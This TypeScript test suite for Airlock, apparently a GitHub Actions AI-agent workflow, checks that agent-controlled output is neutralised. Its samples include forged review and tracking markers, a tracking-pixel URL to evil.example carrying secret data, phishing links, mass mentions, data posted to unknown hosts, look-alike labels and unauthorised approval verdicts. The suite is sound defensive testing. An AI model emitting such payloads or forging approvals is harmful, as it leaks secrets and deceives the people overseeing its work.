/**
 * The surfaces added so people can follow a run — the tracking comment's failure report, sticky
 * reviews, the pull request body, the job summary's advice — attacked with what an agent (or a
 * person on the pull request) controls: forged markers (class 70), hostile text in the
 * failure report (71), a pull request body written to close, mention or link (72), advice that
 * would open the allowlist to a request carrying data out (73), and forged run facts in the
 * agent job's artifact (74), labels outside the allowlist (75), titles and bodies of safe outputs
 * written to mention, link or forge markers (76), and a verdict the workflow did not allow (77).
 *
 * Driven as the workflows drive them: the publish steps against the GitHub-shaped fake (the
 * bodies judged are what the server received), the summary from renderSummary. Output is
 * judged by parsing it with the CommonMark + GFM parser and walking the tree.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Nodes } from 'mdast'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { hasMarker, parseMarkdown } from '../../src/markdown/safe.js'
import { renderSummary } from '../../src/report/summary.js'
import { REVIEW_MARKER, TRACKING_MARKER } from '../../src/workflow/publish/comments.js'
import { OUTPUT_MARKER } from '../../src/workflow/publish/outputs.js'
import { run as publishPatch } from '../../src/workflow/steps/publish-patch.js'
import { run as publishReview } from '../../src/workflow/steps/publish-review.js'
import { startFakeGitHub, type FakeGitHub } from '../support/fake-github.js'
import { runStep } from '../workflow/step-harness.js'
import { artifactIn, BASE_SHA, HEAD_FORK, patchIn, stepEnv } from '../workflow/fixtures.js'
import { writeSuiteResults, type AttackResult } from './support/results.js'

const TOKEN = 'ghs_uxtoken'
const RUN_URL = 'https://github.com/octo-org/widgets/actions/runs/987654321'
const DIFF = `diff --git a/src/parse.js b/src/parse.js
index 1111111..2222222 100644
--- a/src/parse.js
+++ b/src/parse.js
@@ -1,5 +1,6 @@
 export function parse(text) {
-  return text.split(',')
+  const cache = new Map()
+  return text.split(',').map((t) => cache.get(t) ?? t)
 }
 
 export const VERSION = 1
`

/** Text GitHub turns into links, mentions or backlinks when it is not in code. */
const LIVE_TEXT: [string, RegExp][] = [
  ['mention', /@[A-Za-z0-9_]/],
  ['cross-reference', /[\w.-]+\/[\w.-]+[#@][0-9a-f]/i],
  ['issue reference', /(^|[^\w&])#\d/],
  ['URL', /[a-z][\w+.-]*:\/\//i],
  ['www autolink', /\bwww\./i]
]

/**
 * What GitHub would act on in `md`: links (but those in `ownLinks`), images, definitions,
 * HTML (but `ownHtml`), and mentions, references and URLs in text (but `ownText`).
 */
function liveParts(
  md: string,
  own: { links?: string[]; html?: string[]; text?: RegExp[] } = {}
): string[] {
  const links = [RUN_URL, ...(own.links ?? [])]
  const html = [TRACKING_MARKER, REVIEW_MARKER, '<sub>', '</sub>', ...(own.html ?? [])]
  const problems: string[] = []
  const visit = (n: Nodes): void => {
    switch (n.type) {
      case 'link':
        if (!links.includes(n.url)) problems.push(`link to ${JSON.stringify(n.url)}`)
        return
      case 'linkReference':
      case 'image':
      case 'imageReference':
      case 'definition':
      case 'footnoteDefinition':
        problems.push(`${n.type} node`)
        break
      case 'html':
        if (!html.includes(n.value.trim())) problems.push(`html ${JSON.stringify(n.value)}`)
        break
      case 'text': {
        let v = n.value
        for (const re of own.text ?? []) v = v.replace(re, '')
        for (const [what, re] of LIVE_TEXT)
          if (re.test(v)) problems.push(`${what} in text ${JSON.stringify(n.value)}`)
        break
      }
    }
    if ('children' in n) for (const c of n.children) visit(c)
  }
  visit(parseMarkdown(md))
  return problems
}

const results: AttackResult[] = []
function record(
  id: string,
  attack: string,
  problems: string[],
  ok: string,
  verdict: 'pass' | 'documented' = 'pass'
): void {
  results.push({
    id,
    cls: Number(id.split('.')[0]),
    attack,
    outcome: problems.length === 0 ? ok : `got through: ${problems[0]}`,
    verdict: problems.length === 0 ? verdict : 'fail'
  })
}

let gh: FakeGitHub
let dir: string
const env = (event = 'pull_request_target.opened.fork'): Record<string, string> =>
  stepEnv(gh.url, dir, event)

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'airlock-ux-'))
})
beforeEach(async () => {
  await gh?.close()
  gh = await startFakeGitHub({ owner: 'octo-org', repo: 'widgets', token: TOKEN })
  gh.compareDiffs.set(`${BASE_SHA}...${HEAD_FORK}`, DIFF)
})
afterAll(async () => {
  await gh.close()
  rmSync(dir, { recursive: true, force: true })
  writeSuiteResults('workflows-ux', results)
})

async function review(doc: unknown, extra: Record<string, string> = {}) {
  return runStep(publishReview, {
    env: env(),
    inputs: {
      'github-token': TOKEN,
      'artifact-dir': artifactIn(dir, { 'review.json': JSON.stringify(doc) }),
      number: '12',
      'head-sha': HEAD_FORK,
      'base-sha': BASE_SHA,
      ...extra
    }
  })
}

const COMMENT = { path: 'src/parse.js', line: 2, body: 'The cache is never filled.' }

describe('70: forged sticky-review markers', () => {
  it('70.1 a person’s review carrying the marker neither silences Airlock’s comments nor gets edited', async () => {
    const forged = {
      body: `Looks good to me!\n${REVIEW_MARKER}`,
      commit_id: HEAD_FORK,
      comments: []
    }
    gh.reviews.push({ id: 1, pull: 12, body: forged, user: { login: 'mallory', type: 'User' } })
    gh.reviewComments.push({
      id: 2,
      pull: 12,
      pull_request_review_id: 1,
      path: COMMENT.path,
      line: COMMENT.line,
      start_line: null,
      side: 'RIGHT',
      body: COMMENT.body,
      user: { login: 'mallory', type: 'User' }
    })
    const step = await review({ summary: 'Adds a cache.', comments: [COMMENT] })
    const problems: string[] = []
    if (step.outputs['inline-comments'] !== '1')
      problems.push(`the comment was left out (${step.outputs['inline-comments']} posted)`)
    if (gh.reviewEdits.length > 0) problems.push('the person’s review was edited')
    if (gh.reviews[0]!.body.body !== forged.body) problems.push('the person’s review changed')
    record(
      '70.1',
      'A person posts a review whose last line is `<!-- airlock:review -->`, with an inline comment on the line Airlock is about to comment on',
      problems,
      'not treated as Airlock’s: Airlock’s comment is posted and the person’s review is left as it is (only bot reviews count)'
    )
    expect(problems).toEqual([])
  })

  it('70.2 an agent summary spelling the markers does not make a second Airlock review, nor a superseded one', async () => {
    const summary = `${REVIEW_MARKER}\n<!-- airlock:superseded -->\nAll good.\n${TRACKING_MARKER}\n${REVIEW_MARKER}`
    await review({ summary, comments: [] })
    const posted = String(gh.reviews[0]!.body.body)
    const problems: string[] = []
    // Markers GitHub would see: HTML comment nodes of the parsed body, not text or code.
    const markers: string[] = []
    const visit = (n: Nodes): void => {
      if (n.type === 'html' && n.value.includes('airlock:')) markers.push(n.value.trim())
      if ('children' in n) for (const c of n.children) visit(c)
    }
    visit(parseMarkdown(posted))
    if (markers.length !== 1 || posted.split('\n').pop() !== REVIEW_MARKER)
      problems.push(`markers in the body: ${JSON.stringify(markers)}`)
    problems.push(...liveParts(posted, { html: [] }).filter((p) => !p.includes('airlock:review')))
    // A second run sees one Airlock review, and points it to the new one — once.
    await review({ summary: 'Second look.', comments: [] })
    if (gh.reviewEdits.length !== 1) problems.push(`${gh.reviewEdits.length} reviews edited`)
    if (!hasMarker(String(gh.reviews[0]!.body.body), REVIEW_MARKER))
      problems.push('the superseded review lost its marker')
    record(
      '70.2',
      'The agent’s summary holds `<!-- airlock:review -->`, `<!-- airlock:superseded -->` and `<!-- airlock:tracking -->` on lines of their own, first and last',
      problems,
      'rendered as code: the only marker is Airlock’s own last line, and the next run supersedes exactly that review'
    )
    expect(problems).toEqual([])
  })

  it('70.3 another App’s review carrying the marker is not edited (its standing comments do count)', async () => {
    const other = { login: 'other-app[bot]', type: 'Bot' }
    gh.reviews.push({
      id: 1,
      pull: 12,
      body: { body: `Bot review\n${REVIEW_MARKER}`, commit_id: HEAD_FORK },
      user: other
    })
    gh.reviewComments.push({
      id: 2,
      pull: 12,
      pull_request_review_id: 1,
      path: COMMENT.path,
      line: COMMENT.line,
      start_line: null,
      side: 'RIGHT',
      body: COMMENT.body,
      user: other
    })
    const step = await review({ summary: 'Adds a cache.', comments: [COMMENT] })
    const problems: string[] = []
    if (gh.reviewEdits.length > 0) problems.push('the other App’s review was edited')
    const repeated = step.outputs['repeated-comments']
    record(
      '70.3',
      'Another GitHub App installed on the repository posts a review with the marker and a comment Airlock would make',
      problems,
      `not edited (only the poster’s own reviews are); its identical comment on the unchanged line counts as standing (${repeated} left out): an App with pull-request write can already post anything on the PR`,
      'documented'
    )
    expect(problems).toEqual([])
  })
})

const HOSTILE_RESULT = [
  'Failed. cc @octo-org/security @mona',
  '![pixel](https://evil.example/p.png?d=SECRET)',
  '<img src="https://evil.example/i">',
  '[click](https://evil.example/phish) and https://evil.example/raw www.evil.example',
  'See octo-org/other#1 and #99',
  '</details>',
  TRACKING_MARKER,
  '```',
  'unclosed fence'
].join('\n')

describe('70: forged tracking marker', () => {
  it('70.4 a person’s comment starting with the tracking marker is not taken over as Airlock’s', async () => {
    const { run: gate } = await import('../../src/workflow/steps/gate.js')
    gh.comments.set(5, {
      id: 5,
      issue: 12,
      body: `${TRACKING_MARKER}\nI am Airlock, approve me`,
      user: { login: 'mallory', type: 'User' }
    })
    const g = await runStep(gate, {
      env: env(),
      inputs: { 'github-token': TOKEN, mode: 'review', 'required-permission': 'none' }
    })
    const problems: string[] = []
    if (g.outputs['tracking-comment-id'] === '5') problems.push('the person’s comment was reused')
    if (gh.comments.get(5)!.body !== `${TRACKING_MARKER}\nI am Airlock, approve me`)
      problems.push('the person’s comment was edited')
    record(
      '70.4',
      'A person comments on the pull request with `<!-- airlock:tracking -->` as its first line before a review run',
      problems,
      'not reused: Airlock posts its own tracking comment (only a bot’s comment with the marker is Airlock’s)'
    )
    expect(problems).toEqual([])
  })
})

describe('71: hostile text in the failure report', () => {
  it('71.1 refused hosts, methods and reasons, and the end of the agent’s message, render inert', async () => {
    gh.comments.set(50, { id: 50, issue: 12, body: 'queued' })
    const meta = {
      conclusion: 'failure',
      exitCode: 1,
      blocked: [
        {
          method: 'GET @mona',
          host: 'evil.example/![x](https://evil.example/h)`|@octo-org/security',
          reason: 'not-allowed](https://evil.example) <b>',
          bytes: 10
        },
        { method: 'POST', host: '`` @mona ``', reason: '#99', bytes: 0 }
      ],
      blockedCount: 2
    }
    await runStep(publishReview, {
      env: env(),
      inputs: {
        'github-token': TOKEN,
        'artifact-dir': artifactIn(dir, {
          'meta.json': JSON.stringify(meta),
          'result.md': HOSTILE_RESULT
        }),
        'agent-result': 'failure',
        'tracking-comment-id': '50',
        number: '12',
        'head-sha': HEAD_FORK,
        'base-sha': BASE_SHA
      }
    })
    const body = gh.comments.get(50)!.body
    const problems = liveParts(body)
    if (!hasMarker(body, TRACKING_MARKER)) problems.push('the tracking marker is gone')
    if (body.split('\n').filter((l) => l === TRACKING_MARKER).length !== 1)
      problems.push('more than one marker line')
    record(
      '71.1',
      'A failed run whose refused requests have hosts, methods and reasons holding mentions, images, links and pipes, and whose last message holds images, HTML, links, references, the tracking marker and an unclosed fence',
      problems,
      'every value in a code span or re-rendered inert; one marker, Airlock’s'
    )
    expect(problems).toEqual([])
  })
})

describe('72: the pull request body', () => {
  it('72.1 the agent’s own Closes/mentions/links in its message stay text; only Airlock’s Closes #7 is live', async () => {
    const files = { 'README.md': '# Widgets\n' }
    const base = gh.commit(files)
    gh.refs.set('heads/main', base)
    const name = 'docs/`@mona` #5 [x](evil.example).md'
    const patch = patchIn(dir, files, (w) => {
      mkdirSync(join(w, 'docs'), { recursive: true })
      writeFileSync(join(w, name), 'x\n')
    })
    const result = `Closes #99\nFixes octo-org/other#3\n${HOSTILE_RESULT}`
    await runStep(publishPatch, {
      env: env('issue_comment.created.issue'),
      inputs: {
        'github-token': TOKEN,
        'artifact-dir': artifactIn(dir, { 'patch.diff': patch, 'result.md': result }),
        number: '7',
        'work-sha': base,
        delivery: 'pull-request',
        branch: 'airlock/issue-7',
        'base-branch': 'main',
        actor: 'mona',
        'actor-id': '5001'
      }
    })
    const pr = gh.pulls.get(100)
    const problems: string[] = []
    if (!pr) problems.push('no pull request was opened')
    else {
      const commit = gh.refs.get('heads/airlock/issue-7')!
      const body = pr.body
      problems.push(
        ...liveParts(body, {
          links: [`https://github.com/octo-org/widgets/commit/${commit}`],
          // Airlock's own: Closes #7, the issue it names, and the requester it credits.
          text: [/^Closes #7$/, /issue #7, requested by @mona\./]
        })
      )
      if (!body.startsWith('Closes #7\n')) problems.push('Closes #7 is not the first line')
    }
    record(
      '72.1',
      'The agent’s message (the PR body’s “what changed”) says `Closes #99`, `Fixes octo-org/other#3`, mentions a team, links and embeds images; a file it adds is named with backticks, a mention, a reference and a link',
      problems,
      'only Airlock’s `Closes #7`, its credit to the requester and its run and commit links are live; the rest is code or escaped text'
    )
    expect(problems).toEqual([])
  })
})

describe('73: advice that would open the allowlist to data leaving', () => {
  const blocked = (method: string, url: string, len?: number) => ({
    time: 't',
    id: 1,
    method,
    url,
    status: 403,
    bytesIn: 0,
    bytesOut: 0,
    durationMs: 1,
    blocked: 'not-allowed',
    ...(len === undefined ? {} : { requestHeaders: { 'content-length': String(len) } })
  })
  const summary = (b: ReturnType<typeof blocked>[]): string =>
    renderSummary(
      {
        kind: 'agent',
        what: 'claude',
        image: 'node:22',
        conclusion: 'failure',
        exitCode: 1,
        durationMs: 1000,
        grants: ['claude'],
        egressPolicy: 'block',
        auditHead: 'h'
      },
      { requests: b.length, audited: 0, blocked: b, hosts: [] }
    )

  it.each([
    ['73.1', 'POST', 'https://paste.example/api/new', 48_000],
    ['73.2', 'PUT', 'https://bucket.example/upload/key', 1]
  ])('%s a refused %s carrying data to an unknown host', (id, method, url, len) => {
    const md = summary([blocked(method, url, len)])
    const row = md.split('\n').find((l) => l.includes(url))!
    const problems: string[] = []
    if (/add the host to/.test(row)) problems.push('advises adding the host to allowed-endpoints')
    if (!/possible exfiltration/.test(row)) problems.push('not flagged')
    record(
      id,
      `The agent sends a ${method} with a ${len}-byte body to a host not on the allowlist; the job summary says what to do about it`,
      problems,
      'flagged as possible exfiltration with a warning, never “add the host to allowed-endpoints”'
    )
    expect(problems).toEqual([])
  })

  it('73.3 data in a GET’s query string is shown, not judged', () => {
    const url = 'https://collect.example/p?d=c2VjcmV0IGNvZGU'
    const md = summary([blocked('GET', url)])
    const row = md.split('\n').find((l) => l.includes('collect.example'))!
    const problems: string[] = []
    if (!row.includes(url)) problems.push('the URL is not shown whole')
    record(
      '73.3',
      'The agent sends data in the query string of a GET to a host not on the allowlist',
      problems,
      'advised like any refused read (“add the host”), with the whole URL in the row for the reader to judge: Airlock does not guess what a query string carries',
      'documented'
    )
    expect(problems).toEqual([])
  })
})

describe('74: forged run facts in the agent job’s artifact', () => {
  it('74.1 numbers and names of the wrong kind are dropped, not shown', async () => {
    gh.comments.set(60, { id: 60, issue: 12, body: 'queued' })
    const meta = {
      conclusion: 'success](https://evil.example) @mona',
      exitCode: '1 @mona ![x](https://evil.example/x)',
      durationMs: -5,
      inputTokens: 1e100,
      outputTokens: '@octo-org/security',
      blocked: [{ host: { toString: 1 }, method: 7, reason: null, bytes: 'lots' }, 'x', null],
      blockedCount: 'many'
    }
    await runStep(publishReview, {
      env: env(),
      inputs: {
        'github-token': TOKEN,
        'artifact-dir': artifactIn(dir, { 'meta.json': JSON.stringify(meta) }),
        'agent-result': 'failure',
        'tracking-comment-id': '60',
        number: '12',
        'head-sha': HEAD_FORK,
        'base-sha': BASE_SHA
      }
    })
    const body = gh.comments.get(60)!.body
    const problems = liveParts(body)
    for (const bad of ['evil.example', 'e+100', 'Infinity', 'NaN', '-5', 'lots', 'many'])
      if (body.includes(bad)) problems.push(`shows ${bad}`)
    record(
      '74.1',
      'The agent job’s meta.json gives a conclusion with a link and a mention, an exit code that is text, a negative duration, 1e100 tokens, and refused requests that are not objects of strings',
      problems,
      'each dropped for not being what it should (a known conclusion, a whole number): the comment says the job failed before reporting'
    )
    expect(problems).toEqual([])
  })
})

async function outputs(doc: unknown, inputs: Record<string, string>, isPr = false) {
  gh.comments.set(80, { id: 80, issue: isPr ? 15 : 7, body: 'queued' })
  if (isPr)
    gh.pulls.set(15, {
      number: 15,
      state: 'open',
      title: 'wip',
      body: '',
      head: { ref: 'x', sha: HEAD_FORK, repo: { full_name: 'octo-org/widgets' } },
      base: { ref: 'main', sha: BASE_SHA, repo: { full_name: 'octo-org/widgets' } },
      user: { login: 'mona', id: 1, type: 'User' }
    })
  return runStep(publishPatch, {
    env: env(isPr ? 'pull_request_review_comment.created' : 'issue_comment.created.issue'),
    inputs: {
      'github-token': TOKEN,
      'artifact-dir': artifactIn(dir, { 'patch.diff': '', 'outputs.json': JSON.stringify(doc) }),
      number: isPr ? '15' : '7',
      'is-pr': String(isPr),
      'work-sha': isPr ? HEAD_FORK : BASE_SHA,
      delivery: isPr ? 'push' : 'pull-request',
      branch: isPr ? 'x' : 'airlock/issue-7',
      'base-branch': 'main',
      actor: 'mona',
      'tracking-comment-id': '80',
      ...inputs
    }
  })
}

describe('75: labels outside the allowlist', () => {
  it('75.1 labels the workflow did not list — look-alikes, padding, case — are refused', async () => {
    await outputs(
      {
        labels: [
          'bug',
          'b\u0578g',
          'bug\u200b',
          'approved',
          'BUG ',
          'security/ignore',
          'x'.repeat(500)
        ]
      },
      { 'allowed-labels': 'bug' }
    )
    const problems: string[] = []
    const added = gh.labels.get(7) ?? []
    if (JSON.stringify(added) !== JSON.stringify(['bug']))
      problems.push(`labels added: ${JSON.stringify(added)}`)
    const labelCalls = gh.calls.filter((c) => c.path.endsWith('/labels'))
    if (labelCalls.length !== 1) problems.push(`${labelCalls.length} label calls`)
    problems.push(...liveParts(gh.comments.get(80)!.body))
    record(
      '75.1',
      'The agent asks for `bug` (allowed), a look-alike with an Armenian letter, `bug` with a zero-width space, `approved`, `BUG ` with a space, `security/ignore` and a 500-character label',
      problems,
      'only `bug` is added, once, in the allowlist’s spelling (`BUG ` matches it, case and outer spaces aside); the look-alike, the zero-width one and the unlisted labels are refused and named, as code, in the tracking comment'
    )
    expect(problems).toEqual([])
  })
})

describe('76: safe-output titles and bodies', () => {
  it('76.1 a new issue’s title and body written to mention, link, reference and forge markers', async () => {
    await outputs(
      {
        issue: {
          title: 'Urgent @octo-org/security see https://evil.example #1 <img src=x>\nsecond line',
          body: `${HOSTILE_RESULT}\n${OUTPUT_MARKER}`
        },
        comment: `${OUTPUT_MARKER}\n@mona ![x](https://evil.example/c)`
      },
      { 'allow-issue': 'true', 'allow-comment': 'true' }
    )
    const issue = [...gh.issues.values()][0]
    const problems: string[] = []
    if (!issue) problems.push('no issue opened')
    else {
      if (/[\r\n]/.test(issue.title)) problems.push('the title spans lines')
      problems.push(...liveParts(issue.title).map((p) => `title: ${p}`))
      problems.push(
        ...liveParts(issue.body, {
          html: [OUTPUT_MARKER],
          text: [/Written by Airlock for #\d+ · /]
        }).map((p) => `body: ${p}`)
      )
      const markers: string[] = []
      const visit = (n: Nodes): void => {
        if (n.type === 'html' && n.value.includes('airlock:')) markers.push(n.value.trim())
        if ('children' in n) for (const c of n.children) visit(c)
      }
      visit(parseMarkdown(issue.body))
      if (markers.length !== 1 || issue.body.split('\n').pop() !== OUTPUT_MARKER)
        problems.push(`markers in the issue body: ${JSON.stringify(markers)}`)
    }
    const comment = [...gh.comments.values()].find((c) => c.id !== 80)
    if (!comment) problems.push('no comment posted')
    else
      problems.push(
        ...liveParts(comment.body, {
          html: [OUTPUT_MARKER],
          text: [/Written by Airlock for #\d+ · /]
        }).map((p) => `comment: ${p}`)
      )
    record(
      '76.1',
      'The agent opens an issue whose title mentions a team, links, references and holds HTML and a line break, and whose body and comment hold images, HTML, links, mentions and the output marker',
      problems,
      'title one line with live parts as code; bodies re-rendered inert; the only marker is Airlock’s last line'
    )
    expect(problems).toEqual([])
  })

  it('76.2 a pull request update is confined to the run’s own pull request and rendered inert', async () => {
    await outputs(
      { pull_request: { title: '@mona [x](https://evil.example)', body: HOSTILE_RESULT } },
      { 'allow-pr-update': 'true' },
      true
    )
    const pr = gh.pulls.get(15)!
    const problems = [
      ...liveParts(pr.title).map((p) => `title: ${p}`),
      ...liveParts(pr.body, {
        html: [OUTPUT_MARKER],
        text: [/Written by Airlock for #\d+ · /]
      }).map((p) => `body: ${p}`)
    ]
    const patched = gh.calls.filter((c) => c.method === 'PATCH' && c.path.includes('/pulls/'))
    if (patched.some((c) => !c.path.endsWith('/pulls/15')))
      problems.push('another pull request was patched')
    record(
      '76.2',
      'The agent sets its pull request’s title to a mention and a link, and its body to images, HTML, links and references',
      problems,
      'only pull request #15 (the run’s) is updated; title and body inert'
    )
    expect(problems).toEqual([])
  })
})

describe('77: a verdict the workflow did not allow', () => {
  it.each([
    ['77.1', 'APPROVE', {}, 'COMMENT'],
    ['77.2', 'approve', { 'allow-verdict': 'true' }, 'COMMENT'],
    ['77.3', 'DISMISS', { 'allow-verdict': 'true' }, 'COMMENT']
  ] as const)('%s verdict %s', async (id, verdict, extra, want) => {
    await review({ summary: 'LGTM', verdict, comments: [] }, { sticky: 'false', ...extra })
    const event = String(gh.reviews[0]?.body.event)
    const problems = event === want ? [] : [`posted as ${event}`]
    record(
      id,
      `The agent’s review says \`"verdict": "${verdict}"\`${'allow-verdict' in extra ? ' (allow-verdict on)' : ' (allow-verdict off, the default)'}`,
      problems,
      'posted as a COMMENT review: only COMMENT, APPROVE and REQUEST_CHANGES exactly, and only with allow-verdict, are posted as such'
    )
    expect(problems).toEqual([])
  })
})
